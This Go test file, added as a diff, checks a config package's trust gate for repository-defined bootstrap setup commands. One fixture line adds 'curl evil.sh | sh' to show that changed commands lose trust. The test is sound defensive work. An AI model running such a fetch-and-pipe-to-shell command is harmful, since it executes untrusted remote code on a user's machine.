@@ -0,0 +1,59 @@
+package config
+
+import (
+	"path/filepath"
+	"testing"
+)
+
+func TestSetupTrusted(t *testing.T) {
+	root := t.TempDir()
+	global := filepath.Join(root, "home", "config.yaml")
+	trustPath := filepath.Join(root, "home", TrustFileName)
+	repo := filepath.Join(root, "repo")
+	project := filepath.Join(repo, ProjectFileName)
+	writeConfig(t, project, "bootstrap:\n  setup: [\"make deps\"]\n")
+
+	cfg, err := Load(global, repo)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if cfg.Project != project || cfg.SetupSource != project {
+		t.Fatalf("Project = %q, SetupSource = %q, want %q", cfg.Project, cfg.SetupSource, project)
+	}
+	if trusted, err := cfg.SetupTrusted(trustPath); err != nil || trusted {
+		t.Errorf("SetupTrusted() = %v, %v; want untrusted before Trust", trusted, err)
+	}
+
+	if err := Trust(trustPath, project, cfg.Bootstrap.Setup); err != nil {
+		t.Fatalf("Trust() error = %v", err)
+	}
+	if trusted, err := cfg.SetupTrusted(trustPath); err != nil || !trusted {
+		t.Errorf("SetupTrusted() = %v, %v; want trusted", trusted, err)
+	}
+
+	// Changed commands need to be trusted again.
+	writeConfig(t, project, "bootstrap:\n  setup: [\"make deps\", \"curl evil.sh | sh\"]\n")
+	if cfg, err = Load(global, repo); err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if trusted, err := cfg.SetupTrusted(trustPath); err != nil || trusted {
+		t.Errorf("SetupTrusted() = %v, %v; want untrusted after a change", trusted, err)
+	}
+}
+
+func TestSetupTrustedGlobal(t *testing.T) {
+	root := t.TempDir()
+	global := filepath.Join(root, "home", "config.yaml")
+	writeConfig(t, global, "bootstrap:\n  setup: [\"make deps\"]\n")
+	repo := filepath.Join(root, "repo")
+	writeConfig(t, filepath.Join(repo, ProjectFileName), "bootstrap:\n  copy: [\".env\"]\n")
+
+	cfg, err := Load(global, repo)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	// The user's own config file needs no trust, even with a project file.
+	if trusted, err := cfg.SetupTrusted(filepath.Join(root, "home", TrustFileName)); err != nil || !trusted {
+		t.Errorf("SetupTrusted() = %v, %v; want global setup trusted", trusted, err)
+	}
+}